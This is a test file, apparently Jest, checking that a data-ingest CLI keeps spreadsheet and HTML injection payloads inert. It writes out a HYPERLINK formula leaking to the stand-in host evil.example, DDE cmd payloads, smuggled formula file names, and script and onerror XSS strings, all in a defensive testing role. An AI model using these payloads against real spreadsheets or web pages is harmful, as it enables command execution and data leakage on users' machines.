import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import { loadExcelJs } from '../../../src/sources/load-exceljs.js';
import type { CaseRun, HostileCase } from '../hostile-case.js';
import { uploadsTo } from '../adversaries.js';
import { COLUMN, ingest, quoted, runFirst, steelCsv, steelXlsx, validate, write } from '../case-inputs.js';

/** Texts a spreadsheet would run: a link that leaks, a command (DDE), a function, a sum. */
export const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak","click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C notepad'!A1",
  '-2+3+cmd|x!A0',
] as const;

/** Text that starts like a formula to a spreadsheet opening a CSV file. */
const FORMULA_START = /^[=+\-@\t\r]/;

/** The sample's first rows, row i's key replaced by formula i and, with `invalid`, its yield strength by `n/a`. */
function formulaRows(invalid: boolean): string {
  return steelCsv(FORMULAS.length, (cells, i) => {
    cells[COLUMN.formula] = quoted(FORMULAS[i] ?? '');
    if (invalid) cells[COLUMN.yieldStrength] = 'n/a';
  });
}

/** The cells of the one sheet of the case's xlsx `name`, after checking that none is a formula. */
async function sheetWithoutFormulas(r: CaseRun, name: string): Promise<unknown[][]> {
  // exceljs is loaded as the tool loads it: jest's module loader cannot require the uuid it needs.
  const ExcelJS = loadExcelJs();
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile(r.at(name));
  const rows: unknown[][] = [];
  let formulas = 0;
  book.worksheets[0]?.eachRow((row) => {
    const values: unknown[] = [];
    row.eachCell({ includeEmpty: true }, (cell) => {
      if (cell.type === ExcelJS.ValueType.Formula || cell.formula !== undefined) formulas += 1;
      const value = cell.value as { richText?: { text: string }[] } | string | number | null;
      values.push(typeof value === 'object' && value?.richText ? value.richText.map((t) => t.text).join('') : value);
    });
    rows.push(values);
  });
  expect(formulas).toBe(0);
  return rows;
}

/** The case's CSV file `name`: header and rows. */
function csvRows(r: CaseRun, name: string): string[][] {
  return parse(readFileSync(r.at(name)), { bom: true, relax_column_count: true });
}

/** In every `_` column (written for people) no cell starts like a formula. */
function notesInert(rows: string[][]): void {
  const [header = [], ...body] = rows;
  const notes = header.map((name, i) => (name.startsWith('_') ? i : -1)).filter((i) => i >= 0);
  expect(notes.length).toBeGreaterThan(5);
  const live = body.flatMap((row) => notes.map((i) => row[i] ?? '')).filter((text) => FORMULA_START.test(text));
  expect(live).toEqual([]);
}

/** Formulas smuggled into cells, file names and platform answers: uploaded as text, never live in what the tool writes. */
export const FORMULA_CASES: readonly HostileCase[] = [
  {
    name: 'formulas (succeeds): key cells holding formulas are uploaded as the text they are',
    make: (c) => write(c, 'formulas.csv', formulaRows(false)),
    args: () => ingest('formulas.csv'),
    exit: 0,
    sent: FORMULAS.length,
    check: ({ stored }) => expect(stored.map((s) => s.body.content['化学式']).sort()).toEqual([...FORMULAS].sort()),
  },
  {
    name: 'formulas: validate --errors fix.xlsx holds them as text cells, never formulas',
    make: (c) => write(c, 'formulas.csv', formulaRows(true)),
    args: () => validate('formulas.csv', '--errors', 'fix.xlsx'),
    exit: 1,
    check: async (r) => {
      const rows = await sheetWithoutFormulas(r, 'fix.xlsx');
      expect(rows.slice(1).map((row) => row[COLUMN.formula])).toEqual([...FORMULAS]);
    },
  },
  {
    name: 'formulas: validate --errors fix.csv keeps the input cells exact and makes every _ column inert, a file named @SUM(...) too',
    make: (c) => write(c, '@SUM(A1).csv', formulaRows(true)),
    args: () => validate('@SUM(A1).csv', '--errors', 'fix.csv'),
    exit: 1,
    check: (r) => {
      const rows = csvRows(r, 'fix.csv');
      expect(rows.slice(1).map((row) => row[COLUMN.formula])).toEqual([...FORMULAS]);
      notesInert(rows);
      expect(rows[1]?.[rows[0]?.indexOf('_file') ?? -1]).toBe("'@SUM(A1).csv");
    },
  },
  {
    name: 'formulas: a platform rejecting rows with formulas in its message: report --failed-out fix.csv makes them inert',
    platform: {
      adversary: uploadsTo((_req, res) => {
        res.writeHead(422, { 'content-type': 'application/json' });
        res.end(JSON.stringify({ code: 2102, msg: FORMULAS[0], error_detail: FORMULAS[1] }));
      }),
    },
    make: (c) => runFirst(c, ingest('input.csv'), 1),
    args: () => ['report', 'report.jsonl', '--failed-out', 'fix.csv'],
    exit: 1,
    check: (r) => {
      const rows = csvRows(r, 'fix.csv');
      expect(rows).toHaveLength(6);
      notesInert(rows);
    },
  },
  {
    name: 'formulas: the same rows to report --failed-out fix.xlsx are text cells',
    platform: {
      adversary: uploadsTo((_req, res) => {
        res.writeHead(422, { 'content-type': 'application/json' });
        res.end(JSON.stringify({ code: 2102, msg: FORMULAS[0], error_detail: { 化学式: FORMULAS[2] } }));
      }),
    },
    make: (c) => runFirst(c, ingest('input.csv'), 1),
    args: () => ['report', 'report.jsonl', '--failed-out', 'fix.xlsx'],
    exit: 1,
    check: async (r) => expect(await sheetWithoutFormulas(r, 'fix.xlsx')).toHaveLength(6),
  },
  {
    name: 'formulas (succeeds): an xlsx formula cell is read as its cached result, not as the formula',
    make: (c) =>
      write(
        c,
        'formula.xlsx',
        steelXlsx(
          2,
          (cells, i) => (cells[COLUMN.formula] = { formula: 'HYPERLINK("http://evil.example/","Fe")', cached: `Fe-cached-${i}` }),
        ),
      ),
    args: () => ingest('formula.xlsx'),
    exit: 0,
    sent: 2,
    check: ({ stored }) => expect(stored.map((s) => s.body.content['化学式']).sort()).toEqual(['Fe-cached-0', 'Fe-cached-1']),
  },
  {
    name: 'formulas: an xlsx formula without a cached result is SOURCE_FORMULA_NO_RESULT for its row, nothing sent for it',
    make: (c) =>
      write(
        c,
        'formula.xlsx',
        steelXlsx(2, (cells, i) => (cells[COLUMN.formula] = i === 0 ? { formula: 'HYPERLINK("http://evil.example/","Fe")' } : 'Fe-plain')),
      ),
    args: () => ingest('formula.xlsx', '--json'),
    exit: 1,
    sent: 1,
    check: ({ run }) => expect(JSON.parse(run.stdout)).toMatchObject({ counts: { uploaded: 1, invalid: 1 } }),
  },
  {
    name: 'formulas: script in cells and file names is inert text in validate --html',
    make: (c) =>
      write(
        c,
        '<img src=x onerror=alert(1)>.csv',
        steelCsv(
          2,
          (cells) => (
            (cells[COLUMN.formula] = quoted('</script><script>window.pwned=1</script>')),
            (cells[COLUMN.yieldStrength] = '<b>n/a</b>')
          ),
        ),
      ),
    args: () => validate('<img src=x onerror=alert(1)>.csv', '--html', 'page.html'),
    exit: 1,
    check: (r) => {
      const page = readFileSync(r.at('page.html'), 'utf8');
      expect(page).not.toContain('<script>window.pwned');
      expect(page).not.toContain('<img src=x');
      expect(page).not.toContain('<b>n/a');
    },
  },
  {
    name: 'formulas: script in a platform answer is inert text in report --html',
    platform: {
      adversary: uploadsTo((_req, res) => {
        res.writeHead(422, { 'content-type': 'application/json' });
        res.end(
          JSON.stringify({
            code: 2102,
            msg: '</script><script>window.pwned=1</script>',
            error_detail: { '<img src=x onerror=alert(1)>': 'bad' },
          }),
        );
      }),
    },
    make: (c) => runFirst(c, ingest('input.csv'), 1),
    args: () => ['report', 'report.jsonl', '--html', 'page.html'],
    exit: 1,
    check: (r) => {
      const page = readFileSync(r.at('page.html'), 'utf8');
      expect(page).not.toContain('<script>window.pwned');
      expect(page).not.toContain('<img src=x');
    },
  },
];
